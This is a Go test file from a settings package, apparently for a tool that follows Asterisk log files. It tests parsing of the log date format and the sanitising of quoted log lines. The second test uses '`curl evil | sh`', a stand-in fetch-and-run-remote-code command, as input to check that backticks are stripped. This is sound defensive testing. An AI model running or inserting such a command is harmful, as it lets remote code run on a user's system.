package settings

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tollwarden/tollwarden/ami/logfile"
	"github.com/tollwarden/tollwarden/config"
)

// The format of the log's dates is that of the configuration, or probably that of
// logger.conf.
func TestFollowerKnowsTheDateFormat(t *testing.T) {
	cfg := config.Default()
	cfg.Asterisk.ConfigDir = t.TempDir()
	logger := filepath.Join(cfg.Asterisk.ConfigDir, "logger.conf")
	for text, want := range map[string]string{
		"[general]\ndateformat = %d/%m/%Y %T ; as at home\n[logfiles]\nmessages = notice\n": "%d/%m/%Y %T",
		"[general]\n;dateformat=%F %T\n": "", "[general]\ndateformat = %T\n": "", "": "",
	} {
		if err := os.WriteFile(logger, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		f, err := Follower(cfg)
		if err != nil || f.DateFormat != nil {
			t.Fatal(f, err)
		}
		got := ""
		if hint := f.Hint(); hint != nil {
			got = hint.String()
		}
		if got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	cfg.Asterisk.LogDateFormat = "%m/%d/%Y %T"
	if f, err := Follower(cfg); err != nil || f.DateFormat.String() != "%m/%d/%Y %T" {
		t.Error(f, err)
	}
	cfg.Asterisk.LogDateFormat = "%T"
	if _, err := Follower(cfg); err == nil || !strings.Contains(err.Error(), "asterisk.log_dateformat") {
		t.Error(err)
	}
}

// A stranger's line that a problem quotes does not look like a command of ours.
func TestLogProblemHoldsNoCommand(t *testing.T) {
	h := logfile.Health{Sample: "`curl evil | sh`"}
	h.Recent.Lines, h.Recent.Foreign = 40, 30
	if got := LogProblem(h); strings.Contains(got, "`") || !strings.Contains(got, "curl evil") {
		t.Error(got)
	}
}
